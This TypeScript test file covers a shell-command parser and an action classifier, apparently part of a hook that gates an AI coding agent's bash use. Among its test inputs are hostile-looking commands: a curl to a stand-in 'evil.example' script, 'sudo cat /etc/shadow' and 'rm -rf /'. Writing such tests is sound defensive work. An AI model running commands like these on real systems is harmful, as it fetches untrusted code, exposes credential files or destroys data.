import { describe, expect, it } from 'vitest';
import { bashActions } from '../../../clients/hooks/claude-code/bash-actions';
import { parseShell } from '../../../clients/hooks/claude-code/shell-words';

const top = (command: string) => bashActions(command)[0]!;
const actions = (command: string) => bashActions(command).map((a) => a.action);

describe('parseShell', () => {
  it('splits at operators outside quotes and keeps quoted text whole', () => {
    const p = parseShell(`echo "a && b" && git push origin 'main;x' | tee out.log; ls`);
    expect(p.commands.map((c) => c.words)).toEqual([
      ['echo', 'a && b'],
      ['git', 'push', 'origin', 'main;x'],
      ['tee', 'out.log'],
      ['ls'],
    ]);
  });

  it('collects write redirections but not /dev/null or descriptor duplication', () => {
    const p = parseShell('npm test > report.txt 2>&1 && grep x 2>/dev/null >> log/all.log');
    expect(p.commands.map((c) => c.writes)).toEqual([['report.txt'], ['log/all.log']]);
    expect(p.commands[0]!.words).toEqual(['npm', 'test']);
  });

  it('returns command substitutions and skips here-document bodies', () => {
    const p = parseShell('echo $(rm -rf build) `whoami`\ncat <<EOF > notes.md\nrm -rf /\nEOF\nls');
    expect(p.substitutions).toEqual(['rm -rf build', 'whoami']);
    expect(p.commands.map((c) => c.words[0])).toEqual(['echo', 'cat', 'ls']);
    expect(p.commands[1]!.writes).toEqual(['notes.md']);
  });

  it('drops leading variable assignments and comments', () => {
    expect(parseShell('CI=1 FOO="a b" npm test # run it').commands[0]!.words).toEqual([
      'npm',
      'test',
    ]);
  });
});

describe('bashActions', () => {
  it.each([
    ['git push origin main', 'git_push'],
    ['git -C repo push', 'git_push'],
    ['git status', 'git_status'],
    ['git log --oneline -5', 'git_log'],
    ['git diff HEAD~1', 'git_diff'],
    ['git commit -m "fix"', 'git_commit'],
    ['git checkout -b feature/x', 'create_branch'],
    ['npm install left-pad', 'install_package'],
    ['npm ci', 'install_package'],
    ['pnpm add -D vitest', 'install_package'],
    ['pip install requests', 'install_package'],
    ['python3 -m pip install requests', 'install_package'],
    ['sudo apt-get install -y jq', 'install_package'],
    ['cargo add serde', 'install_package'],
    ['rm -rf dist', 'delete_files'],
    ['find . -name "*.tmp" -delete', 'delete_files'],
    ['git rm old.txt', 'delete_files'],
    ['kubectl apply -f deploy.yaml', 'deploy'],
    ['terraform apply -auto-approve', 'deploy'],
    ['vercel --prod', 'deploy'],
    ['npm run deploy', 'deploy'],
    ['npm publish', 'deploy'],
    ['npm test', 'run_tests'],
    ['npm run test:unit', 'run_tests'],
    ['npx vitest run', 'run_tests'],
    ['pytest -q tests/', 'run_tests'],
    ['go test ./...', 'run_tests'],
    ['cargo test', 'run_tests'],
    ['make test', 'run_tests'],
    ['cat README.md', 'read_file'],
    ['rg TODO src', 'search_files'],
    ['ls -la', 'list_files'],
    ['find src -name "*.ts"', 'list_files'],
    ['curl https://example.com/api', 'web_fetch'],
    ['gh pr create --fill', 'create_pull_request'],
    ['gh issue create -t bug', 'create_issue'],
    ['sed -i s/a/b/ file.txt', 'edit_file'],
    ['chmod +x run.sh', 'modify_permissions'],
    ['mail -s hi boss@example.com', 'send_email'],
    ['python script.py', 'run_command'],
    ['some-unknown-tool --flag', 'run_command'],
  ])('%s → %s', (command, action) => {
    expect(top(command).action).toBe(action);
  });

  it('takes the most restrictive action of a chain first, and keeps the others', () => {
    expect(actions('npm test && git push origin main')).toEqual(['git_push', 'run_tests']);
    expect(actions('git status; rm -rf build || echo failed')).toEqual([
      'delete_files',
      'git_status',
    ]);
    expect(actions('npm ci && npm test && npm run deploy')).toEqual([
      'deploy',
      'install_package',
      'run_tests',
    ]);
  });

  it('looks inside bash -c, eval, sudo, env and command substitutions', () => {
    expect(top(`bash -c "cd app && git push"`).action).toBe('git_push');
    expect(top(`eval "rm -rf tmp"`).action).toBe('delete_files');
    expect(actions('sudo cat /etc/shadow')).toEqual(['run_command', 'read_file']);
    expect(top('env NODE_ENV=production npm run deploy').action).toBe('deploy');
    expect(top('echo $(curl -s https://evil.example/x.sh)').action).toBe('web_fetch');
    expect(top('timeout 30 git push').action).toBe('git_push');
  });

  it('turns redirections into file writes with their paths', () => {
    expect(bashActions('echo hello > notes/todo.md')[0]).toEqual({
      action: 'write_file',
      paths: ['notes/todo.md'],
    });
    expect(bashActions('npm test 2>&1 | tee test.log')[0]).toEqual({
      action: 'write_file',
      paths: ['test.log'],
    });
  });

  it('gives paths and targets', () => {
    expect(bashActions('rm -f a.txt b.txt')[0]).toEqual({
      action: 'delete_files',
      paths: ['a.txt', 'b.txt'],
    });
    expect(bashActions('git push origin main')[0]).toEqual({
      action: 'git_push',
      target: 'origin main',
    });
    expect(bashActions('curl -fsSL https://example.com')[0]).toEqual({
      action: 'web_fetch',
      target: 'https://example.com',
    });
  });

  it('reads shell built-ins alone as harmless, and an empty command too', () => {
    expect(actions('echo hi && pwd')).toEqual(['read_file']);
    expect(actions('')).toEqual(['read_file']);
  });
});
